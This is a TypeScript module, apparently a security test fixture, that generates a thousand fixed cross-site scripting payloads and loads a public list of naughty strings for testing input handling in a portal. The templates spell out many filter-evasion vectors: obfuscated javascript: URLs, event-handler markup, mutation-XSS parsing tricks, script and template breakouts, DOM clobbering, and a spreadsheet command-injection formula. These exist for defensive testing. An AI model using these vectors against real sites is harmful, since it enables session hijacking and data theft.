// Injection payloads, generated from templates and identical in every run, and the Big List of Naughty Strings.
import naughty from 'big-list-of-naughty-strings';

/** The number of payloads. Payload n calls `probe(n)` when it runs. */
export const PAYLOADS = 1000;

type Template = (text: string) => string;

/** Spellings of the call that evade filters for words or brackets. */
const calls: readonly Template[] = [
  (n) => `probe(${n})`,
  (n) => `top['probe'](${n})`,
  (n) => String.raw`\u0070r\u006fbe(${n})`,
  (n) => `probe\`${n}\``,
  (n) => `[${n}].forEach(probe)`,
  (n) => `eval('pro'+'be(${n})')`,
  (n) => `setTimeout('probe(${n})')`,
  (n) => `Function\`probe(${n})\`\`\``,
  (n) => `import('data:text/javascript,probe(${n})')`,
  (n) => `self[atob('cHJvYmU=')](${n})`,
  (n) => `/*<!--*/probe(${n})//-->`,
];

const entities = (text: string, write: (code: number) => string) =>
  Array.from(text, (letter) => write(letter.codePointAt(0) ?? 0)).join('');

const encodings: readonly Template[] = [
  (value) => value,
  (value) => entities(value, (code) => `&#${code};`),
  (value) => entities(value, (code) => `&#x${code.toString(16)};`),
  (value) => entities(value, (code) => `&#${String(code).padStart(7, '0')}`),
  (value) => value.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
];

const quotes: readonly Template[] = [
  (value) => `"${value.replaceAll('"', '&quot;')}"`,
  (value) => `'${value.replaceAll("'", '&apos;')}'`,
  (value) => value.replaceAll(/[\s"'>]/g, (letter) => `&#${letter.codePointAt(0)};`),
];

/** Prefixes that break out of an HTML context. */
const exits: readonly string[] = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</select></option>',
  '</noscript>',
  '\u0000',
  '\u202e\u2066',
];

/** Elements with an event handler that fires by itself or on interaction. */
const elements: readonly (readonly [start: string, event: string])[] = [
  ['<img src=x:', 'onerror'],
  ['<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['<image src=x:', 'onerror'],
  ['<svg', 'onload'],
  ['<svg><animate attributeName=x dur=1s', 'onbegin'],
  ['<svg><a><rect', 'onclick'],
  ['<math><mtext', 'onmouseover'],
  ['<video src=x:', 'onerror'],
  ['<audio src=x:', 'onerror'],
  ['<video><source', 'onerror'],
  ['<input autofocus', 'onfocus'],
  ['<select autofocus', 'onfocus'],
  ['<textarea autofocus', 'onfocus'],
  ['<details open', 'ontoggle'],
  ['<marquee', 'onstart'],
  ['<object data=x:', 'onerror'],
  ['<iframe srcdoc=x', 'onload'],
  ['<a href=#', 'onclick'],
  ['<p tabindex=0', 'onpointerover'],
  ['<div contenteditable', 'oninput'],
  ['<form><button', 'onclick'],
  ['<style', 'onload'],
  ['<x-y style=animation-name:x', 'onanimationstart'],
];

/** Script URLs, some disguised. */
const addresses: readonly Template[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `jav\r\nascript:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `javascript\t:${call}`,
  (call) => `javascript://host/%0a${call}`,
  (call) => `javascript://https://host.invalid/%0d%0a${call}`,
  (call) => `javascript:%76oid 0;${call}`,
  (call) => `javascript:"x";${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `vbscript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `https://host.invalid/"onfocus="${call}"autofocus="`,
  (call) => `https://javascript:${call}@host.invalid/`,
];

/** Elements that load, follow or submit to a URL. */
const holders: readonly Template[] = [
  (url) => `<a href=${url}>x</a>`,
  (url) => `<iframe src=${url}></iframe>`,
  (url) => `<form action=${url}><button>x</button></form>`,
  (url) => `<form><button formaction=${url}>x</button></form>`,
  (url) => `<form><input type=submit formaction=${url}></form>`,
  (url) => `<object data=${url}></object>`,
  (url) => `<embed src=${url}>`,
  (url) => `<svg><a xlink:href=${url}><text y=20>x</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=href values=${url} /><text y=20>x</text></a></svg>`,
  (url) => `<math href=${url}>x</math>`,
  (url) => `<map name=m><area shape=default href=${url}></map>`,
  (url) => `<base href=${url}><a href=#>x</a>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url.replaceAll('"', '&quot;')}">`,
  (url) => `<link rel=stylesheet href=${url}>`,
  (url) => `<p style="background:url(${url.replaceAll('"', '&quot;')})">x</p>`,
  (url) => `<blockquote cite=${url}><a target=_self href=${url}>x</a></blockquote>`,
  (url) => `[x](${url})`,
];

const image = (call: string) => `<img src=x: onerror="${call}">`;

/** Document fragments, and markup that changes its meaning when it is parsed and serialized again (mXSS). */
const documents: readonly Template[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script\n>`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>${image(call)}`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" /></svg>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;body onload=&quot;${call}&quot;&gt;"></iframe>`,
  (call) => `<iframe sandbox=allow-scripts srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<template><script>${call}</script></template>${image(call)}`,
  (call) => `<template shadowrootmode=open>${image(call)}</template>`,
  (call) => `<noscript><p title="</noscript>${image(call)}">`,
  (call) => `<svg></p><style><a id="</style>${image(call)}">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style>${image(call)}`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math>${image(call)}`,
  (call) => `<!--><!--${image(call)}-->${image(call)}`,
  (call) => `<![CDATA[${image(call)}]]>`,
  (call) => `<?xml version="1.0"?>${image(call)}`,
  (call) => `<style>@import 'javascript:${call}';*{background:url("javascript:${call}")}</style>`,
  (call) => `<p style="width:expression(${call});behavior:url(x);-moz-binding:url(x)">x</p>`,
  (call) => `<b\u000conmouseover=a>\u00a0</b>${image(call)}`,
];

/** Text that is harmful only in a script, a template, a spreadsheet, another encoding, or as a global name. */
const contexts: readonly Template[] = [
  (call) => `'-${call}-'`,
  (call) => `";${call}//`,
  (call) => `\\';${call}//`,
  (call) => `\`-${call}-\``,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `<%= ${call} %>`,
  (call) => `[[${call}]]`,
  (call) => `*/${call}/*`,
  (call) => `\u2028${call}\u2029`,
  (call) => `"}]}');${call};//`,
  (call) => `{"__proto__":{"innerHTML":"${image(call)}"}}`,
  (call) => `=cmd|'/c ${call}'!A1`,
  (call) => `%3Cscript%3E${encodeURIComponent(call)}%3C/script%3E`,
  (call) => `%253Cscript%253E${call}%253C/script%253E`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => String.raw`\x3cscript\x3e${call}\x3c/script\x3e`,
  (call) => String.raw`\u003cscript\u003e${call}\u003c/script\u003e`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `</script\u0000><script>${call}</script>`,
  (call) => `<form id=document><input name=body></form>${image(call)}`,
  (call) => `<a id=probe href="javascript:${call}"></a><a id=probe name=x>x</a>`,
  (call) => `<img name=getElementById><img name=createElement>${image(call)}`,
  (call) => `<p id=root></p><p id=main></p><h1 id=page-heading></h1>${image(call)}`,
  (call) => `\u202e${image(call)}\u202c\u2066\u200b\ufeff\u2069`,
];

// Lists that are combined have coprime lengths, so that every index gives another combination.
const at = <Item>(list: readonly Item[], index: number): Item => list[index % list.length]!;
const callAt = (index: number, n: number) => at(calls, index)(String(n));

/** Each family generates payload `n` as its `index`-th member. */
const families: readonly ((index: number, n: number) => string)[] = [
  (index, n) => {
    const [start, event] = at(elements, index);
    const value = at(quotes, index)(at(encodings, index)(callAt(index, n)));
    const name = index % 2 === 0 ? event : event.toUpperCase();
    const space = at([' ', ' / ', '\n', '\t', '\u000c', ' x="" ', '\r'], index);
    return `${at(exits, index)}${start}${space}${name}=${value}>`;
  },
  (index, n) => at(addresses, index)(callAt(index, n)),
  (index, n) =>
    at(holders, index)(at(quotes, index)(at(encodings, index)(at(addresses, index)(callAt(0, n))))),
  (index, n) => at(exits, index) + at(documents, index)(at(calls.slice(0, 3), index)(String(n))),
  (index, n) => at(contexts, index)(callAt(index, n)),
];

export const payload = (n: number) => at(families, n)(Math.floor(n / families.length), n);

export const payloads: readonly string[] = Array.from({ length: PAYLOADS }, (_, n) => payload(n));

/** The public list without blank strings, which the portal treats as absent. */
export const naughtyStrings: readonly string[] = naughty.filter((text) => text.trim() !== '');
